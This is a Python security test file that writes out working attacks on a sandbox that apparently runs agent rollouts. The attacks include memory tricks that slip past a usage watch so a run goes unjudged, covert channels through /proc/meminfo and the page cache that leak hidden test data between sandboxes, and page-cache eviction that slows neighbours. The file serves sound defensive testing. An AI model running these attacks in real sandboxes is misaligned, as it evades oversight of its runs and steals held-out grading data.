"""Round 28 attacks on the sandbox (open: each xfail strict until fixed).

Each runs real bwrap as root (a leased uid, cgroups, the workspace as an overlay or a copy)
and/or as a normal user (nobody, through ``run_as``).
"""

from __future__ import annotations

import os
import textwrap

from tests.security.test_attacks_round25_sandbox import _judged_as_the_rollouts
from tests.security.test_attacks_round26_sandbox import _CACHED, _secret_read
from tests.security.test_attacks_round27_sandbox import _GROW_TO_THE_LIMIT

# r28s-1: r11-2's class once more past the part watch (agent/memory_part.py), through the way
# it adds what the sandbox's tmpfs hold to what its processes map. ``PartWatch.look`` takes
# ``max(shmem, extra)``: a tmpfs file the tests map shared is in both Pss_Shmem and the tmpfs's
# bytes, so the larger is a lower bound. But Pss_Shmem is also what *shared anonymous*
# mappings hold (``mmap(-1, n)``, MAP_SHARED|MAP_ANONYMOUS: shmem pages of no tmpfs the watch
# reads; what multiprocessing's shared values use), and a file written to /tmp or /dev/shm and
# closed is mapped by no one: the two are disjoint, and the watch counts only the larger.
# A normal user's sandbox (no memory cgroup of its own) in a 400 MB container (part: 168 MB):
# 120 MB written to /tmp, /dev/shm and the workspace, 120 MB in three processes' shared anonymous
# mappings, then a process growing until the OOM killer ends it (the largest). The rest holds
# ~255 MB, the watch sees ~135 MB, under the part: the run is the machine's shortage
# (SandboxError, not judged) where the same 120 MB held as private bytes (the control) is the
# rollout's (judged).
_SHARED_AND_FILES = (
    textwrap.dedent(
        """
    import mmap, os, time
    mb = 2**20
    with open("/tmp/held", "wb") as f:  # the sandbox's own tmpfs, written and closed: mapped by no one
        for _ in range(62):
            f.write(b"x" * mb)
    with open("/dev/shm/held", "wb") as f:
        for _ in range(15):
            f.write(b"x" * mb)
    with open("held", "wb") as f:  # and the workspace's tmpfs: 120 MB of files in all
        for _ in range(43):
            f.write(b"x" * mb)
    r, w = os.pipe()
    for n in (40, 40, 40):
        if os.fork() == 0:
            try:
                if SHARED:  # shared anonymous pages: Pss_Shmem, of no tmpfs
                    b = mmap.mmap(-1, n * mb)
                else:  # the same as private bytes: Pss_Anon
                    b = bytearray(n * mb)
                b[::4096] = b"x" * len(b[::4096])
                os.write(w, b"1")
                time.sleep(30)
            finally:
                os._exit(0)
    for _ in range(3):  # (each holds its 40 MB before the grower starts)
        os.read(r, 1)
    """
    )
    + _GROW_TO_THE_LIMIT
)


def test_r28s_1_control_private_bytes_beside_tmpfs_files_are_the_rollouts(user_dir):
    _judged_as_the_rollouts(user_dir, _SHARED_AND_FILES.replace("SHARED", "False"))


def test_r28s_1_shared_anonymous_pages_beside_tmpfs_files_are_the_rollouts(user_dir):
    _judged_as_the_rollouts(user_dir, _SHARED_AND_FILES.replace("SHARED", "True"))


# r28s-2: a new instance of r26s-4/5/6's class (a channel between two sandboxes running at
# once), through no shared file at all: the machine's own memory counters, which every
# sandbox reads in /proc/meminfo (its own /proc, but meminfo is the host's: no lxcfs, no
# namespace). A root sandbox's final run (its workspace holds the revealed hidden tests, the
# held-out inputs) grows and shrinks a file of its own /tmp (tmpfs: the machine's ``Shmem``) by
# 2 MB steps, their number telling 2 bits of the secret and a flipping clock bit, after a preamble; a
# neighbouring root sandbox's tests, meanwhile, read ``Shmem`` every millisecond and decode:
# 32 bytes in ~5 s, whole. Neither of the fixes the doc names for the class closes it (a copy
# of the shared tree per sandbox; refusing lock calls): every per-sandbox cap leaves the
# counters machine-wide (MemFree, Cached, AnonPages, /proc/sys/fs/file-nr, /proc/loadavg's
# threads alike).
_MEMINFO_COMMON = """
import os, sys, time
STEP = 2 * 2**20  # one level: 2 MB more of a file of /tmp (tmpfs: the machine's Shmem)
SLOT = 0.04
def shmem():
    with open("/proc/meminfo", "rb") as f:
        for line in f:
            if line.startswith(b"Shmem:"):
                return int(line.split()[1]) * 1024
"""
# Self-clocked: each 2-bit symbol is sent as a level of 0 to 7 steps, its third bit flipping from
# one symbol to the next (the receiver reads a symbol at each flip, however late it is
# scheduled), after a preamble of 7 steps (the scale) and 0 (the base).
_MEMINFO_SENDER = (
    _MEMINFO_COMMON
    + """
secret = open("secret.txt", "rb").read()[:32]
symbols = [(byte >> (2 * i)) & 3 for byte in secret for i in range(4)]
held = os.open("/tmp/held", os.O_RDWR | os.O_CREAT)
def level(n):  # one call each way: no level in between for the neighbour to read
    if n * STEP < os.fstat(held).st_size:
        os.ftruncate(held, n * STEP)
    elif n:
        os.posix_fallocate(held, 0, n * STEP)
time.sleep(0.3)
for n, hold in ((7, 6), (0, 6)):
    level(n)
    time.sleep(hold * SLOT)
for k, s in enumerate(symbols):
    level(s + 4 * ((k + 1) % 2))
    time.sleep(SLOT)
level(0)
time.sleep(0.5)
"""
)
_MEMINFO_RECEIVER = (
    _MEMINFO_COMMON
    + """
deadline = time.monotonic() + 30
over = os.path.join(sys.argv[1], "sender-over")
recent, got, first, high, base, parity = [], [], None, None, None, 0
while time.monotonic() < deadline and len(got) < 128:
    recent = (recent + [shmem()])[-8:]
    if len(recent) == 8 and len(set(recent)) == 1:  # stable: no write in between
        v = recent[-1]
        first = v if first is None else first
        if base is None and v - first > 5 * STEP:  # the preamble's 7 steps
            high = v if high is None else max(high, v)
        elif base is None and high is not None and high - v > 5 * STEP:  # back to 0: the base, and the scale
            base, step = v, (high - v) / 7
        elif base is not None:
            lvl = max(0, min(7, round((v - base) / step)))
            if (lvl >> 2) & 1 != parity:
                got.append(lvl & 3)
                parity ^= 1
    if os.path.exists(over):
        break
    time.sleep(0.001)
out = bytearray(32)
for j, s in enumerate(got):
    out[j // 4] |= s << (2 * (j % 4))
print("READ", bytes(out).hex())
"""
)


def test_r28s_2_control_a_sandbox_alone_reads_nothing_in_meminfo(tmp_path):
    assert not _secret_read(tmp_path, False, (_MEMINFO_SENDER, _MEMINFO_RECEIVER))


def test_r28s_2_a_sandbox_never_reads_a_neighbours_secret_in_meminfo(tmp_path):
    """Up to nine tries: the machine's own Shmem moves under load (the control's too), and the
    attack needs one whole secret."""
    read = _secret_read(tmp_path, True, (_MEMINFO_SENDER, _MEMINFO_RECEIVER), tries=9)
    assert not read, "a neighbouring sandbox read the final run's secret whole through /proc/meminfo"


# r28s-3: a neighbour slowed through the host's page cache. Every sandbox reads the same host
# files (the interpreter's prefix, the venv, /usr) through read-only binds, and
# ``posix_fadvise(POSIX_FADV_DONTNEED)`` on a descriptor opened read-only drops their clean
# pages from the machine's page cache (r26s-6 used it as a channel: here it is the cost). A
# rollout's tests looping over those ~120,000 files, dropping each, make every other process
# that starts Python or imports from them read the disk again: neighbouring rollouts' test
# runs, their differentials, repo-agent itself. Measured here (a VM's fast virtual disk):
# importing pytest, pydantic and a few standard modules took 0.58 s beside a sandbox making the
# same calls with ``POSIX_FADV_NORMAL`` (the same CPU: the control) and 0.91 s beside one
# dropping the pages, +57%; on a real disk each import is a seek. Nothing charges it to the
# rollout: its own CPU share pays for the calls, its neighbours for the reads.
_EVICT = """
import os, sys, time
tops = [os.path.dirname(os.__file__), sys.prefix, "/usr/lib", "/usr/bin"]
files = [os.path.join(d, n) for top in tops for d, _, ns in os.walk(top) for n in ns]
t = time.monotonic()
while time.monotonic() - t < 25:
    for f in files:
        try:
            fd = os.open(f, os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            os.posix_fadvise(fd, 0, 0, os.ADVICE)
        except OSError:
            pass
        os.close(fd)
"""
_IMPORTS = "import pytest, pydantic, json, asyncio, email, http.client, unittest, decimal, xml.etree.ElementTree"


def _imports_beside(tmp_path, advice: str) -> tuple[int, float]:
    """What five host imports (``_IMPORTS``, a fresh interpreter each) read from the disk (the
    median of their block reads, bytes) and took (the median wall time), while a root sandbox
    loops over the shared read-only files giving each ``advice``."""
    import subprocess
    import sys
    import threading
    import time
    import uuid

    from agent.sandbox import run_command_full
    from tests.security.conftest import kill_processes_naming, processes_naming

    ws = tmp_path / advice
    ws.mkdir()
    name = f"evict-{uuid.uuid4().hex[:8]}.py"
    (ws / name).write_text(_EVICT.replace("ADVICE", advice))
    runner = threading.Thread(
        target=run_command_full, args=([sys.executable, name], ws), kwargs={"timeout_s": 30, "sandbox": "bwrap"}
    )
    runner.start()
    try:
        deadline = time.monotonic() + 20
        while not processes_naming(name) and time.monotonic() < deadline:
            time.sleep(0.01)
        read, took = [], []
        for _ in range(6):
            t0 = time.monotonic()
            child = subprocess.Popen([sys.executable, "-c", _IMPORTS])
            _, status, usage = os.wait4(child.pid, 0)
            child.returncode = os.waitstatus_to_exitcode(status)
            assert child.returncode == 0
            took.append(time.monotonic() - t0)
            read.append(usage.ru_inblock * 512)
        # the first while the loop's first pass is under way
        return sorted(read[1:])[2], sorted(took[1:])[2]
    finally:
        kill_processes_naming(name)
        runner.join()


def test_r28s_3_a_sandbox_never_sends_its_neighbours_imports_to_the_disk(tmp_path):
    calm_read, calm_took = _imports_beside(tmp_path, "POSIX_FADV_NORMAL")
    assert calm_read < 2**20, f"the control's imports read {calm_read} bytes from the disk"  # all cached
    read, took = _imports_beside(tmp_path, "POSIX_FADV_DONTNEED")
    assert read < 2**20, (
        f"imports read {read} bytes from the disk in {took:.2f} s beside the sandbox ({calm_took:.2f} s)"
    )


# r28s-4: r26s-6's channel (the page cache of the shared read-only files) needs no neighbour
# running at the same time: the page cache outlives the sandbox, its memory cgroup and its run,
# so it is a store, not only a channel. A root sandbox's final run (its workspace holds the
# revealed hidden tests) reads one of 256 files of the interpreter's own test package (files
# no program of the machine reads) for each 0 bit of what it found and drops the next one's
# pages (``POSIX_FADV_DONTNEED``) for each 1 bit, and ends. A sandbox started *after* it is
# gone (a later rollout of the batch, of the next batch) asks each file with
# ``preadv2(RWF_NOWAIT)`` (EAGAIN where the page is not cached; no read from the disk) and has
# the secret whole. The bound the doc names for the class (no other rollout's code running
# while a sandbox holds a final run's secret) does not close it.
_STORE_FILES = """
import os, sys
top = os.path.join(os.path.dirname(os.__file__), "test")
names = sorted(os.path.join(top, n) for n in os.listdir(top) if n.startswith("test_") and n.endswith(".py"))[:256]
assert len(names) == 256, len(names)
"""
_STORE_WRITER = _STORE_FILES + textwrap.dedent(
    """
    secret = open("secret.txt", "rb").read()[:32]
    bits = [(byte >> i) & 1 for byte in secret for i in range(8)]
    for name, bit in zip(names, bits):
        fd = os.open(name, os.O_RDONLY)
        if bit:
            os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
        else:
            os.pread(fd, 4096, 0)
        os.close(fd)
    print("STORED")
    """
)
_STORE_READER = (
    _STORE_FILES
    + _CACHED
    + textwrap.dedent(
        """
    bits = [1 - cached(n) for n in names]
    print("READ", bytes(sum(bits[8 * k + i] << i for i in range(8)) for k in range(32)).hex())
    """
    )
)


def _read_from_the_store(tmp_path, writer: bool) -> bool:
    """Whether a root sandbox (``_STORE_READER``) started after a root sandbox that stored a fresh
    secret (``_STORE_WRITER``, when ``writer``) ended printed that secret."""
    return _read_after_a_writer(tmp_path, writer, _STORE_WRITER, _STORE_READER)


def _read_after_a_writer(tmp_path, writer: bool, writer_script: str, reader_script: str, before=lambda: None) -> bool:
    """Whether a root sandbox running ``reader_script`` (which prints READ and what it read),
    started after a root sandbox running ``writer_script`` on a fresh ``secret.txt`` (which prints
    STORED; when ``writer``) ended, printed that secret; ``before``: done first, in the lock."""
    import secrets
    import sys

    from agent.sandbox import run_command_full
    from tests.security.test_attacks_round26_sandbox import _alone

    secret = secrets.token_hex(16)
    boxes = {}
    tmp_path.mkdir(exist_ok=True)
    for name, script in (("writer", writer_script), ("reader", reader_script)):
        boxes[name] = tmp_path / name
        boxes[name].mkdir()
        (boxes[name] / "run.py").write_text(script)
    (boxes["writer"] / "secret.txt").write_text(secret)
    with _alone("lock-channel"):
        before()
        if writer:
            run = run_command_full([sys.executable, "run.py"], boxes["writer"], timeout_s=60, sandbox="bwrap")
            assert "STORED" in run.output, run.output[-300:]
        said = run_command_full([sys.executable, "run.py"], boxes["reader"], timeout_s=60, sandbox="bwrap").output
    assert "READ" in said, said[-300:]
    return secret.encode().hex() in said


def test_r28s_4_control_a_sandbox_alone_reads_no_stored_secret(tmp_path):
    assert not _read_from_the_store(tmp_path, False)


def test_r28s_4_a_later_sandbox_never_reads_a_final_runs_secret(tmp_path):
    """Up to three tries (the machine's own reads and reclaim can spoil one under load: the attack
    needs one whole secret)."""
    tries = [tmp_path / f"try{k}" for k in range(3)]
    for where in tries:
        where.mkdir()
    read = any(_read_from_the_store(where, True) for where in tries)
    assert not read, "a sandbox started later read the ended sandbox's secret whole"


# r28s-5: r25s-1's mappings once more past the part watch, now that it counts them
# (``_MAPPING_OBJECTS``: 128 bytes a line of /proc/PID/maps, "below" a vm_area_struct's 192).
# A mapping of a file keeps that file open after its descriptor is closed (sbx6-1), so each
# mapping of a file opened anew holds a ``struct file`` as well as its vma, both charged to the
# enclosing memory cgroup and in no Pss: 449 bytes of slab a mapping measured here (147 for
# mappings of one open file), 3.5 times what the watch counts. 24 processes of a normal user's
# sandbox in a 400 MB container each open a 4 kB file of /tmp 30,000 times, map it once a
# time (never touched: no page, no page table) and close the descriptor: ~320 MB of slab the
# watch sees as ~92 MB; one more process grows until the OOM killer ends it, and the run is the
# machine's shortage (SandboxError, not judged) where 13 MB of bytes held in each of the 24
# (the control, about as much memory) is the rollout's (judged).
_FILE_MAPPINGS = (
    textwrap.dedent(
        """
    import ctypes, mmap, os, time
    mb = 2**20
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    with open("/tmp/one", "wb") as f:
        f.write(b"x" * 4096)
    r, w = os.pipe()
    for _ in range(24):
        if os.fork() == 0:
            try:
                if AS_BYTES:
                    b = bytearray(13 * mb)
                    b[::4096] = b"x" * len(b[::4096])
                else:
                    for _ in range(30000):  # a vma and an open file each
                        fd = os.open("/tmp/one", os.O_RDONLY)
                        libc.mmap(None, 4096, mmap.PROT_READ, mmap.MAP_SHARED, fd, 0)
                        os.close(fd)
                os.write(w, b"1")
                time.sleep(60)
            finally:
                os._exit(0)
    for _ in range(24):
        os.read(r, 1)
    """
    )
    + _GROW_TO_THE_LIMIT
)


def test_r28s_5_control_bytes_held_past_the_part_are_the_rollouts(user_dir):
    _judged_as_the_rollouts(user_dir, _FILE_MAPPINGS.replace("AS_BYTES", "True"))


def test_r28s_5_file_mappings_past_the_part_are_the_rollouts(user_dir):
    _judged_as_the_rollouts(user_dir, _FILE_MAPPINGS.replace("AS_BYTES", "False"))


# r28s-6: r11-2's class past the part watch through AF_UNIX sockets that hold nothing: no
# byte queued (r25s-7), no connection waiting (r27s-5). A socketpair is two sockets, each its
# sock, socket inode, dentry and open file: 2,064 bytes of slab a socket measured here, charged
# to the enclosing memory cgroup, mapped by no one, and the watch's walk of descriptors counts
# only pipes and epolls. 120 processes of a normal user's sandbox in a 400 MB container each
# make socketpairs until RLIMIT_NOFILE (~1,000 sockets, ~2 MB each: ~245 MB), then one more
# process grows until the OOM killer ends it: the run is the machine's shortage (SandboxError,
# not judged) where 2.5 MB held as bytes in each of the 120 (the control) is the rollout's.
_EMPTY_SOCKETS = (
    textwrap.dedent(
        """
    import os, socket, time
    mb = 2**20
    r, w = os.pipe()
    for _ in range(120):
        if os.fork() == 0:
            try:
                held = []
                if AS_BYTES:
                    b = bytearray(5 * mb // 2)
                    b[::4096] = b"x" * len(b[::4096])
                else:
                    try:
                        while True:
                            held += socket.socketpair()  # empty: nothing queued, ever
                    except OSError:  # EMFILE: RLIMIT_NOFILE
                        pass
                os.write(w, b"1")
                time.sleep(60)
            finally:
                os._exit(0)
    for _ in range(120):
        os.read(r, 1)
    """
    )
    + _GROW_TO_THE_LIMIT
)


def test_r28s_6_control_bytes_held_past_the_part_are_the_rollouts(user_dir):
    _judged_as_the_rollouts(user_dir, _EMPTY_SOCKETS.replace("AS_BYTES", "True"))


def test_r28s_6_empty_sockets_past_the_part_are_the_rollouts(user_dir):
    _judged_as_the_rollouts(user_dir, _EMPTY_SOCKETS.replace("AS_BYTES", "False"))


# r28s-7: r11-2's class past the part watch by timing alone, with bytes the watch counts. The
# watch looks at what the sandbox holds once it sees the OOM kill counted (polled every 50 ms),
# and "an excess that died with the victim stays not judged". The rest of the excess need not
# wait to be seen: six processes of a normal user's sandbox in a 400 MB container hold 39 MB
# of bytes each (234 MB, past the 168 MB part) and block on a pipe whose write end only the
# growing process holds; when the OOM killer ends it (the largest), the pipe's EOF wakes them
# and they exit at once, before the watch's look: it sees nothing past the part and the run is
# the machine's shortage (SandboxError, not judged) in ~70% of tries (3 tries here, any escape
# counts), where the same six that keep their bytes (the control) are judged every time.
_RELEASED_AT_THE_KILL = textwrap.dedent(
    """
    import os, time
    mb = 2**20
    gone_r, gone_w = os.pipe()  # its write end: the grower's alone, once forked
    ready_r, ready_w = os.pipe()
    for _ in range(6):
        if os.fork() == 0:
            try:
                os.close(gone_w)
                b = bytearray(39 * mb)
                b[::4096] = b"x" * len(b[::4096])
                os.write(ready_w, b"1")
                if RELEASE:
                    os.read(gone_r, 1)  # EOF: the grower died, the OOM killer's choice
                else:
                    time.sleep(30)
            finally:
                os._exit(0)
    for _ in range(6):
        os.read(ready_r, 1)
    if os.fork() == 0:  # the largest: grows to the container's limit
        try:
            held = []
            while True:
                b = bytearray(mb)
                b[::4096] = b"x" * len(b[::4096])
                held.append(b)
        except MemoryError:  # its RLIMIT_AS (the part) first: the container was not full
            print("NOT FULL", len(held), flush=True)
            time.sleep(30)
        finally:
            os._exit(0)
    os.close(gone_w)
    time.sleep(5)
    os.kill(os.getpid(), 9)
    """
)


def test_r28s_7_control_bytes_kept_past_the_part_are_the_rollouts(user_dir):
    _judged_as_the_rollouts(user_dir, _RELEASED_AT_THE_KILL.replace("RELEASE", "False"))


def test_r28s_7_bytes_released_at_the_kill_are_the_rollouts(user_dir):
    import shutil
    import tempfile
    from pathlib import Path

    _judged_as_the_rollouts(user_dir, _RELEASED_AT_THE_KILL.replace("RELEASE", "True"))
    for _ in range(2):  # a race the watch wins ~30% of the time: any escape of 3 is the finding
        again = Path(tempfile.mkdtemp(prefix="repo-agent-user-"))  # (user_dir's own, for nobody)
        try:
            _judged_as_the_rollouts(again, _RELEASED_AT_THE_KILL.replace("RELEASE", "True"))
        finally:
            shutil.rmtree(again, ignore_errors=True)
